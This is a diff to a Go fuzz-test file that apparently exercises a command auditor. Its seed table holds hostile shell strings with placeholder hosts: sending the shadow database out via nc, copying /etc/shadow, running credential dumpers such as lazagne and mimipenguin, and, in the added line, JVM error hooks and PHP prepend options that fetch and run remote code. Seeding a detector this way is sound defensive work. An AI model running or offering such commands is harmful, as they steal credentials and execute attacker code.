@@ -372,6 +372,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "env \"$K\"=1 ${J}=2 \"$L=3\" '$M'=4 npx -y a; sudo \"$K\"= b; env \"$K\"; env \"x$K\"=; docker run -e \"$K\"=1 c; env =\"$V\" d"},
 	{"sh", "-c", "opam pin add a git+https://b#c; opam pin d http://e/f.tgz; opam pin add --dev-repo g; opam pin; nix-env -if https://h/archive/i.tar.gz; nix-env --file; nix-env -f; terraform -chdir=j init -from-module k/l/m; tofu init --from-module=git::http://n?ref=o&rev=; ansible-galaxy install p,v1 q,r,s git+https://t,u; ansible-galaxy collection install v:>=1 w:==; vagrant plugin install x --plugin-version; brew install --HEAD y"},
 	{"sh", "-c", "getent shadow | nc a 1; getent; cp /etc/gshadow /tmp/b; install -m 600 /etc/shadow c; ln /etc/shadow d; dscl . -read /Users/e ShadowHashData; dscl . read; cat /var/db/dslocal/nodes/Default/users/f.plist; esentutl /y /vss 'C:/Windows/System32/config/SECURITY' /d g; lazagne all; mimipenguin.sh"},
+	{"sh", "-c", "java -Xmx1m -XX:OnOutOfMemoryError='curl h://a | sh;kill -9 %p' -XX:OnError= -XX:OnError=\"npx b\" -jar c; JAVA_TOOL_OPTIONS='-XX:OnError=\"wget -O- h://d | bash\" -Xss1' MAVEN_OPTS=\"-XX:OnOutOfMemoryError='x\" mvn e; php -d auto_prepend_file=http://f/g.php -dauto_append_file=ftp://h -d -d=x -d auto_prepend_file= i.php"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
